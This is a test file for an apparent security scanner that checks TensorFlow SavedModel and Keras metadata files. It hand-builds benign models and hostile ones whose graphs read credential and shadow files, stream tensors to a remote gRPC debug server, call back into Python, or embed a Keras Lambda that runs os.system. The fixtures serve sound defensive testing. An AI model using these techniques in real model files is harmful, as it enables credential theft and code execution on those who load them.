"""SavedModel analyzer: hand-built ``saved_model.pb`` files in TensorFlow's real layout.

TensorFlow is too heavy to install for tests, so the protobufs are written field by field
with a tiny encoder, following tensorflow/core/protobuf/saved_model.proto, meta_graph.proto,
saved_object_graph.proto and core/framework/{graph,node_def,function,attr_value,op_def}.proto.
The benign model mirrors what ``tf.saved_model.save`` writes for a Keras model: a serving
signature calling a function from the library, and the ``_traced_save`` /
``_traced_restore`` functions full of checkpoint ops that must not be reported.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
from pathlib import Path

import pytest

from bastion.analyzer import Registry, Target
from bastion.engine import scan_paths
from bastion.findings import Finding, Location, Severity
from bastion.scan._protowire import Reader, WireError, WireLimit
from bastion.scan.savedmodel import SavedModelAnalyzer

ANALYZER = SavedModelAnalyzer()

# -- a minimal protobuf encoder ----------------------------------------------------------------


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def ld(field: int, payload: bytes | str) -> bytes:
    """A length-delimited field (string, bytes or sub-message)."""
    data = payload.encode() if isinstance(payload, str) else payload
    return varint(field << 3 | 2) + varint(len(data)) + data


def vi(field: int, value: int) -> bytes:
    return varint(field << 3) + varint(value)


def attr(key: str, value: bytes) -> bytes:
    """A ``map<string, AttrValue> attr = 5`` entry of a NodeDef."""
    return ld(5, ld(1, key) + ld(2, value))


DT_FLOAT, DT_STRING, DT_RESOURCE = 1, 7, 20
TYPE = lambda dtype: vi(6, dtype)  # noqa: E731  AttrValue.type
STRING = lambda s: ld(2, s)  # noqa: E731  AttrValue.s
FUNC = lambda name: ld(10, ld(1, name))  # noqa: E731  AttrValue.func (NameAttrList)
STRINGS = lambda *items: ld(1, b"".join(ld(2, s) for s in items))  # noqa: E731  list.s


def string_tensor(value: str) -> bytes:
    """AttrValue.tensor holding a scalar DT_STRING TensorProto."""
    return ld(8, vi(1, DT_STRING) + ld(2, b"") + ld(8, value))


def node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
    """A NodeDef: name=1, op=2, input=3, device=4, attr=5."""
    return ld(1, name) + ld(2, op) + b"".join(ld(3, i) for i in inputs) + attrs


def function(name: str, *nodes: bytes) -> bytes:
    """A FunctionDef: signature=1 (OpDef, name=1), node_def=3."""
    signature = ld(1, name) + ld(2, ld(1, "x") + vi(3, DT_FLOAT))
    return ld(1, signature) + b"".join(ld(3, n) for n in nodes)


def saved_model(graph_nodes: list[bytes], functions: list[bytes], *,
                ops: list[str] | None = None, objects: list[bytes] = ()) -> bytes:
    """SavedModel{schema_version=1, meta_graphs=[MetaGraphDef]} as TF 2 writes it."""
    op_list = b"".join(ld(1, ld(1, op)) for op in (ops or []))
    meta_info = ld(2, op_list) + ld(4, "serve") + ld(5, "2.15.0") + ld(6, "v2.15.0-2-gabc")
    library = b"".join(ld(1, f) for f in functions)
    graph = b"".join(ld(1, n) for n in graph_nodes) + ld(2, library) + ld(4, vi(1, 1645))
    saver = ld(1, "saver_filename:0") + ld(2, "StatefulPartitionedCall_1:0") + \
        ld(3, "StatefulPartitionedCall_2") + vi(4, 0) + vi(5, 1) + vi(7, 2)
    signature = ld(1, ld(1, "input_1") + ld(2, ld(1, "serving_default_input_1:0") + vi(2, 1))) \
        + ld(3, "tensorflow/serving/predict")
    root = ld(1, ld(1, vi(1, 1) + ld(2, "layer_with_weights-0"))) + \
        ld(4, ld(1, "_generic_user_object") + ld(2, vi(1, 1) + vi(2, 1)))
    object_graph = ld(1, root) + b"".join(ld(1, o) for o in objects)
    meta = (ld(1, meta_info) + ld(2, graph) + ld(3, saver)
            + ld(5, ld(1, "serving_default") + ld(2, signature)) + ld(7, object_graph))
    return vi(1, 1) + ld(2, meta)


SERVE = function(
    "__inference_serving_default_42",
    node("dense/MatMul/ReadVariableOp", "ReadVariableOp", "kernel",
         attrs=attr("dtype", TYPE(DT_FLOAT))),
    node("dense/MatMul", "MatMul", "x", "dense/MatMul/ReadVariableOp:value:0"),
    node("dense/BiasAdd", "BiasAdd", "dense/MatMul:product:0", "bias"),
    node("Identity", "Identity", "dense/BiasAdd:output:0"),
)
TRACED_SAVE = function(
    "__inference__traced_save_97",
    node("StaticRegexFullMatch", "StaticRegexFullMatch", "file_prefix"),
    node("Const", "Const", attrs=attr("value", string_tensor(".part"))),
    node("Select", "Select", "StaticRegexFullMatch", "Const", "Const_1"),
    node("StringJoin", "StringJoin", "file_prefix", "Select"),
    node("ShardedFilename", "ShardedFilename", "StringJoin", "num_shards", "shard"),
    node("SaveV2", "SaveV2", "ShardedFilename", "tensor_names", "shape_and_slices", "kernel"),
    node("MergeV2Checkpoints", "MergeV2Checkpoints", "ShardedFilename", "file_prefix",
         attrs=attr("delete_old_dirs", vi(5, 1))),
    node("NoOp", "NoOp"),
)
TRACED_RESTORE = function(
    "__inference__traced_restore_120",
    node("RestoreV2", "RestoreV2", "file_prefix", "tensor_names", "shape_and_slices"),
    node("AssignVariableOp", "AssignVariableOp", "kernel", "RestoreV2:tensors:0"),
)
GRAPH = [
    node("serving_default_input_1", "Placeholder",
         attrs=attr("dtype", TYPE(DT_FLOAT)) + attr("shape", ld(7, b""))),
    node("kernel", "VarHandleOp", attrs=attr("dtype", TYPE(DT_FLOAT))),
    node("StatefulPartitionedCall", "StatefulPartitionedCall", "serving_default_input_1",
         "kernel", attrs=attr("f", FUNC("__inference_serving_default_42"))),
    node("saver_filename", "Placeholder", attrs=attr("dtype", TYPE(DT_STRING))),
    node("StatefulPartitionedCall_1", "StatefulPartitionedCall", "saver_filename",
         attrs=attr("f", FUNC("__inference__traced_save_97"))),
]
BENIGN_OPS = ["AssignVariableOp", "BiasAdd", "Const", "Identity", "MatMul", "MergeV2Checkpoints",
              "NoOp", "Placeholder", "ReadVariableOp", "RestoreV2", "SaveV2", "Select",
              "ShardedFilename", "StatefulPartitionedCall", "StaticRegexFullMatch",
              "StringJoin", "VarHandleOp"]


def benign() -> bytes:
    return saved_model(GRAPH, [SERVE, TRACED_SAVE, TRACED_RESTORE], ops=BENIGN_OPS)


def write(tmp_path: Path, data: bytes, name: str = "saved_model.pb") -> Path:
    folder = tmp_path / "export"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return path


def scan(path: Path) -> list[Finding]:
    return list(scan_paths([path], registry=Registry([ANALYZER])).findings)


def by_rule(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.rule_id, []).append(f)
    return out


# -- benign ------------------------------------------------------------------------------------


def test_benign_saved_model_is_claimed_and_clean(tmp_path: Path) -> None:
    """Checkpoint ops (SaveV2, RestoreV2, MergeV2Checkpoints) are in every SavedModel."""
    data = benign()
    assert ANALYZER.claims(Target.from_bytes(data, Location(path="saved_model.pb")))
    assert scan(write(tmp_path, data)) == []


def test_encoder_matches_protobuf_runtime() -> None:
    """Cross-check the hand encoder against the protobuf runtime on a real message type."""
    pytest.importorskip("google.protobuf")
    from google.protobuf import descriptor_pb2

    message = descriptor_pb2.FieldDescriptorProto(name="op", number=2, label=1, type=9,
                                                  json_name="x" * 300)
    expected = ld(1, "op") + vi(3, 2) + vi(4, 1) + vi(5, 9) + ld(10, "x" * 300)
    assert message.SerializeToString(deterministic=True) == expected
    reader = Reader(io.BytesIO(expected), len(expected))
    assert [(f.number, f.length) for f in reader.fields(0, len(expected))] == [
        (1, 2), (3, 0), (4, 0), (5, 0), (10, 300)]


def half_plus_two() -> bytes:
    """A TF 1 SavedModel laid out like TensorFlow's own test model half_plus_two
    (tensorflow/cc/saved_model/testdata/half_plus_two_pbtxt): variables with Assign/read,
    a ParseExample input, and the V2 saver subgraph under ``save/``."""
    b_true, f32, s_ = vi(5, 1), TYPE(DT_FLOAT), TYPE(DT_STRING)
    classes = lambda v: attr("_class", STRINGS(f"loc:@{v}"))  # noqa: E731
    nodes = []
    for var, value in (("a", 0.5), ("b", 2.0), ("c", 3.0)):
        scalar = ld(8, vi(1, DT_FLOAT) + ld(2, b"") + ld(5, struct.pack("<f", value)))
        nodes += [
            node(f"{var}/initial_value", "Const", attrs=attr("dtype", f32) + attr("value", scalar)),
            node(var, "Variable", attrs=attr("container", STRING("")) + attr("dtype", f32)
                 + attr("shape", ld(7, b"")) + attr("shared_name", STRING(""))),
            node(f"{var}/Assign", "Assign", var, f"{var}/initial_value",
                 attrs=attr("T", f32) + classes(var) + attr("use_locking", b_true)),
            node(f"{var}/read", "Identity", var, attrs=attr("T", f32) + classes(var)),
        ]
    nodes += [
        node("tf_example", "Placeholder", attrs=attr("dtype", s_)),
        node("ParseExample/ParseExample", "ParseExample", "tf_example", "ParseExample/names",
             "ParseExample/dense_keys_0", "ParseExample/Const"),
        node("Mul", "Mul", "a/read", "x", attrs=attr("T", f32)),
        node("y", "Add", "Mul", "b/read", attrs=attr("T", f32)),
        node("init", "NoOp", "^a/Assign", "^b/Assign", "^c/Assign"),
        node("save/Const", "Const",
             attrs=attr("dtype", s_) + attr("value", string_tensor("model"))),
        node("save/StringJoin", "StringJoin", "save/Const", "save/StringJoin/inputs_1",
             attrs=attr("N", vi(3, 2)) + attr("separator", STRING(""))),
        node("save/ShardedFilename", "ShardedFilename", "save/StringJoin",
             "save/ShardedFilename/shard", "save/num_shards"),
        node("save/SaveV2", "SaveV2", "save/ShardedFilename", "save/SaveV2/tensor_names",
             "save/SaveV2/shape_and_slices", "a", "b", "c",
             attrs=attr("dtypes", ld(1, vi(6, 1) + vi(6, 1) + vi(6, 1)))),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", "save/ShardedFilename",
             attrs=attr("N", vi(3, 1)) + attr("T", s_)),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints",
             "save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const",
             attrs=attr("delete_old_dirs", b_true)),
        node("save/RestoreV2", "RestoreV2", "save/Const", "save/RestoreV2/tensor_names",
             "save/RestoreV2/shape_and_slices", attrs=attr("dtypes", ld(1, vi(6, 1)))),
        node("save/Assign", "Assign", "a", "save/RestoreV2", attrs=attr("T", f32)),
        node("save/restore_all", "NoOp", "^save/restore_shard"),
    ]
    ops = ["Add", "Assign", "Const", "Identity", "MergeV2Checkpoints", "Mul", "NoOp", "Pack",
           "ParseExample", "Placeholder", "RestoreV2", "SaveV2", "ShardedFilename",
           "StringJoin", "Variable"]
    meta_info = ld(2, b"".join(ld(1, ld(1, op)) for op in ops)) + ld(4, "serve") + \
        ld(5, "0.12.head") + ld(6, "unknown")
    graph = b"".join(ld(1, n) for n in nodes) + ld(4, vi(1, 19))
    saver = ld(1, "save/Const:0") + ld(2, "save/Identity:0") + ld(3, "save/restore_all") + \
        vi(4, 5) + vi(5, 1) + varint(6 << 3 | 5) + struct.pack("<f", 10000.0) + vi(7, 2)
    asset = ld(1, ld(1, "Const:0")) + ld(2, "foo.txt")
    collections = (
        ld(4, ld(1, "asset_filepaths") + ld(2, ld(1, ld(1, "Const:0"))))
        + ld(4, ld(1, "legacy_init_op") + ld(2, ld(1, ld(1, "group_deps"))))
        + ld(4, ld(1, "saved_model_assets") + ld(2, ld(5, ld(1, ld(
            1, "type.googleapis.com/tensorflow.AssetFileDef") + ld(2, asset))))))
    return vi(1, 1) + ld(2, ld(1, meta_info) + ld(2, graph) + ld(3, saver) + collections)


def test_tf1_half_plus_two_layout_is_clean(tmp_path: Path) -> None:
    """A TF 1 model with Variable/Assign and the V2 saver subgraph: nothing to report."""
    data = half_plus_two()
    assert ANALYZER.claims(Target.from_bytes(data, Location(path="saved_model.pb")))
    assert scan(write(tmp_path, data)) == []


# -- hostile graphs ----------------------------------------------------------------------------


def test_read_and_write_file_in_a_function(tmp_path: Path) -> None:
    """Technique: a serving function that reads a secret and writes it elsewhere."""
    exfil = function(
        "__inference_serving_default_42",
        node("path", "Const", attrs=attr("value", string_tensor("/root/.aws/credentials"))),
        node("ReadFile", "ReadFile", "path:output:0"),
        node("dest", "Const", attrs=attr("value", string_tensor("/var/www/html/c.txt"))),
        node("WriteFile", "WriteFile", "dest:output:0", "ReadFile:contents:0"),
    )
    data = saved_model(GRAPH, [exfil, TRACED_SAVE, TRACED_RESTORE],
                       ops=[*BENIGN_OPS, "ReadFile", "WriteFile"])
    findings = scan(write(tmp_path, data))
    rules = by_rule(findings)
    assert list(rules) == ["SAVEDMODEL-FILE-ACCESS"]
    ops = {f.properties["op"]: f for f in findings}
    assert set(ops) == {"ReadFile", "WriteFile"}
    read = ops["ReadFile"]
    assert read.severity is Severity.HIGH
    assert read.properties["count"] == 2  # the node and the stripped op list
    assert "__inference_serving_default_42" in (read.evidence or "")


def test_pyfunc_in_graph(tmp_path: Path) -> None:
    """Technique: tf.py_function / tf.numpy_function calls back into Python."""
    graph = [*GRAPH, node("PyFunc", "PyFunc", "serving_default_input_1",
                          attrs=attr("token", STRING("pyfunc_0")))]
    (hit,) = scan(write(tmp_path, saved_model(graph, [SERVE, TRACED_SAVE])))
    assert (hit.rule_id, hit.properties["op"]) == ("SAVEDMODEL-PYTHON-OP", "PyFunc")
    assert "graph: PyFunc" in (hit.evidence or "")


@pytest.mark.parametrize("op", ["EagerPyFunc", "PyFuncStateless"])
def test_pyfunc_variants_in_function(tmp_path: Path, op: str) -> None:
    fn = function("__inference_call_7", node("f", op, "x"))
    (hit,) = scan(write(tmp_path, saved_model(GRAPH, [SERVE, fn])))
    assert hit.rule_id == "SAVEDMODEL-PYTHON-OP"


def test_debug_op_with_grpc_url(tmp_path: Path) -> None:
    """Technique: a tfdbg op that streams every tensor to a remote debug server."""
    debug = node("dense/DebugIdentity", "DebugIdentity", "dense/MatMul:product:0",
                 attrs=attr("debug_urls", STRINGS("grpc://203.0.113.5:6064")))
    (hit,) = scan(write(tmp_path, saved_model([*GRAPH, debug], [SERVE])))
    assert hit.rule_id == "SAVEDMODEL-NETWORK-ACCESS"
    assert hit.properties["attrs"] == {"debug_urls": "grpc://203.0.113.5:6064"}


def test_print_to_file_is_flagged_print_to_stderr_is_not(tmp_path: Path) -> None:
    """Technique: tf.print(output_stream="file://...") appends tensors to any file."""
    to_file = node("p1", "PrintV2", "x", attrs=attr("output_stream", STRING("file:///tmp/leak")))
    to_err = node("p2", "PrintV2", "x", attrs=attr("output_stream", STRING("stderr")))
    (hit,) = scan(write(tmp_path, saved_model([*GRAPH, to_file, to_err], [SERVE])))
    assert hit.properties["op"] == "PrintV2"
    assert hit.properties["count"] == 1
    assert "file:///tmp/leak" in (hit.evidence or "")


def test_immutable_const_maps_a_file(tmp_path: Path) -> None:
    """Technique: ImmutableConst memory-maps the file named in its attribute."""
    op = node("c", "ImmutableConst", attrs=attr("memory_region_name", STRING("/etc/shadow"))
              + attr("dtype", TYPE(DT_FLOAT)))
    (hit,) = scan(write(tmp_path, saved_model([*GRAPH, op], [SERVE])))
    assert hit.rule_id == "SAVEDMODEL-FILE-ACCESS"
    assert "/etc/shadow" in (hit.evidence or "")


def test_summary_writer_is_medium(tmp_path: Path) -> None:
    op = node("w", "CreateSummaryFileWriter", "writer", "logdir", "q", "f", "s")
    (hit,) = scan(write(tmp_path, saved_model([*GRAPH, op], [SERVE])))
    assert (hit.rule_id, hit.severity) == ("SAVEDMODEL-FILE-ACCESS", Severity.MEDIUM)


def test_op_listed_only_in_stripped_op_list(tmp_path: Path) -> None:
    """The op list names every op used; one there is reported even if no node was read."""
    (hit,) = scan(write(tmp_path, saved_model(GRAPH, [SERVE], ops=["MatMul", "WriteFile"])))
    assert hit.properties["op"] == "WriteFile"
    assert "stripped_op_list" in (hit.evidence or "")


def test_pre_2017_function_node_form(tmp_path: Path) -> None:
    """Technique: FunctionDef field 2 (the old Node form: ret=1, op=2) still parses."""
    old = ld(1, ld(1, "legacy_fn")) + ld(2, ld(1, "out") + ld(2, "ReadFile") + ld(3, "x"))
    (hit,) = scan(write(tmp_path, saved_model(GRAPH, [SERVE, old])))
    assert hit.properties["op"] == "ReadFile"
    assert "legacy_fn" in (hit.evidence or "")


# -- Keras metadata ----------------------------------------------------------------------------


def keras_lambda_metadata(marker: Path) -> str:
    """A TF 2 Keras layer's SavedModel metadata JSON with a Keras 2 Lambda config."""
    fn = eval(f'lambda x: (__import__("os").system("touch {marker}"), x)[1]')
    code = base64.b64encode(marshal.dumps(fn.__code__)).decode()
    return json.dumps({
        "name": "lambda", "trainable": True, "expects_training_arg": False, "dtype": "float32",
        "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
        "class_name": "Lambda",
        "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                   "function": [code, None, None], "function_type": "lambda",
                   "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                   "output_shape_module": None, "arguments": {}},
        "shared_object_id": 2,
    })


def test_keras_lambda_in_object_graph_metadata(tmp_path: Path) -> None:
    """Technique: Keras rebuilds Lambda layers from SavedUserObject.metadata (TF <= 2.4)."""
    marker = tmp_path / "MARKER"
    layer = ld(4, ld(1, "_tf_keras_layer") + ld(2, vi(1, 1)) + ld(3, keras_lambda_metadata(marker)))
    (hit,) = scan(write(tmp_path, saved_model(GRAPH, [SERVE], objects=[layer])))
    assert hit.rule_id == "KERAS-LAMBDA-BYTECODE"
    assert "system" in hit.properties["suspicious_names"]
    assert not marker.exists()


def test_keras_metadata_pb(tmp_path: Path) -> None:
    """Technique: the same Lambda in keras_metadata.pb (SavedMetadata.nodes[].metadata=5)."""
    marker = tmp_path / "MARKER"
    root = vi(2, 0) + ld(3, "root") + ld(4, "_tf_keras_network") + \
        ld(5, json.dumps({"name": "model", "class_name": "Functional", "config": {}}))
    layer = vi(2, 3) + ld(3, "root.layer-1") + ld(4, "_tf_keras_layer") + \
        ld(5, keras_lambda_metadata(marker))
    data = ld(1, root) + ld(1, layer)
    assert ANALYZER.claims(Target.from_bytes(data, Location(path="keras_metadata.pb")))
    findings = scan(write(tmp_path, data, "keras_metadata.pb"))
    assert [f.rule_id for f in findings] == ["KERAS-LAMBDA-BYTECODE"]
    assert not marker.exists()


def test_keras_metadata_with_benign_layers_is_clean(tmp_path: Path) -> None:
    meta = json.dumps({"name": "dense", "class_name": "Dense",
                       "config": {"name": "dense", "units": 4, "activation": "relu"}})
    data = ld(1, vi(2, 1) + ld(3, "root.layer-0") + ld(4, "_tf_keras_layer") + ld(5, meta))
    assert scan(write(tmp_path, data, "keras_metadata.pb")) == []


# -- malformed input and bounds ---------------------------------------------------------------


def test_truncated_saved_model_is_malformed(tmp_path: Path) -> None:
    data = benign()
    findings = scan(write(tmp_path, data[: len(data) // 2]))
    assert [f.rule_id for f in findings] == ["SAVEDMODEL-MALFORMED"]
    assert findings[0].severity is Severity.HIGH


@pytest.mark.parametrize("tail", [
    b"\x1a\xff\xff\xff\xff\x0f",  # a length far past the end
    b"\x08" + b"\xff" * 11,  # a varint longer than ten bytes
    b"\x0b\x0c",  # group wire types, not used by these protos
])
def test_hostile_wire_data_inside_a_node(tmp_path: Path, tail: bytes) -> None:
    graph = [*GRAPH, node("bad", "MatMul") + tail]
    findings = scan(write(tmp_path, saved_model(graph, [SERVE])))
    assert "SAVEDMODEL-MALFORMED" in [f.rule_id for f in findings]


def test_ops_before_a_fault_are_still_reported(tmp_path: Path) -> None:
    graph = [node("r", "ReadFile", "p"), node("bad", "MatMul") + b"\x0b"]
    rules = sorted(f.rule_id for f in scan(write(tmp_path, saved_model(graph, [SERVE]))))
    assert rules == ["SAVEDMODEL-FILE-ACCESS", "SAVEDMODEL-MALFORMED"]


def test_reader_field_budget() -> None:
    data = b"".join(vi(1, i) for i in range(100))
    reader = Reader(io.BytesIO(data), len(data), max_fields=50)
    with pytest.raises(WireLimit):
        list(reader.fields(0, len(data)))


def test_reader_rejects_message_past_end() -> None:
    data = ld(1, b"abc")
    reader = Reader(io.BytesIO(data), len(data))
    with pytest.raises(WireError):
        list(reader.fields(0, len(data) + 5))


def test_huge_constant_is_skipped_not_read(tmp_path: Path) -> None:
    """A multi-megabyte Const attr is skipped by seeking: only the op names are read."""
    big = node("w", "Const", attrs=attr("value", ld(8, vi(1, DT_FLOAT) + ld(4, b"\0" * 8_000_000))))
    path = write(tmp_path, saved_model([*GRAPH, big], [SERVE]))
    reads: list[int] = []
    raw = path.read_bytes()

    class Counting(io.BytesIO):
        def read(self, n: int | None = -1) -> bytes:
            data = super().read(n)
            reads.append(len(data))
            return data

    target = Target(Location(path=str(path)), len(raw), raw[:4096], lambda: Counting(raw))
    from bastion.analyzer import Context

    assert list(ANALYZER.analyze(target, Context(registry=Registry([ANALYZER])))) == []
    assert sum(reads) < 1_000_000


# -- claims ------------------------------------------------------------------------------------


def test_onnx_model_is_not_claimed() -> None:
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("Relu", ["x"], ["y"])], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    data = helper.make_model(graph, producer_name="backend-test").SerializeToString()
    assert data[:1] == b"\x08"
    assert not ANALYZER.claims(Target.from_bytes(data, Location(path="m.onnx")))
    del onnx


@pytest.mark.parametrize("head", [
    b"\x08\x01\x12\x05hello",  # field 2 holds text, not a MetaGraphDef
    b"\x08\x01\x12\x02\x0a\x05",  # its first field is longer than the meta graph
    b"PK\x03\x04",
    b"\x0a\x05hello",  # length-delimited start without a Keras identifier
    b"",
])
def test_claims_are_conservative(head: bytes) -> None:
    assert not ANALYZER.claims(Target.from_bytes(head, Location(path="x")))


def test_random_damage_never_escapes() -> None:
    """Flipped and cut bytes give findings or nothing, never an exception or a hang."""
    import random

    from bastion.analyzer import Context

    rng = random.Random(99)
    original = saved_model([*GRAPH, node("r", "ReadFile", "p")], [SERVE, TRACED_SAVE])
    ctx = Context(registry=Registry([ANALYZER]))
    for _ in range(300):
        data = bytearray(original)
        for _ in range(rng.randint(1, 6)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        data = data[: rng.randrange(len(data) // 2, len(data) + 1)]
        target = Target.from_bytes(bytes(data), Location(path="saved_model.pb"))
        if ANALYZER.claims(target):
            findings = list(ANALYZER.analyze(target, ctx))
            assert {f.rule_id for f in findings} <= {rule.id for rule in ANALYZER.rules}
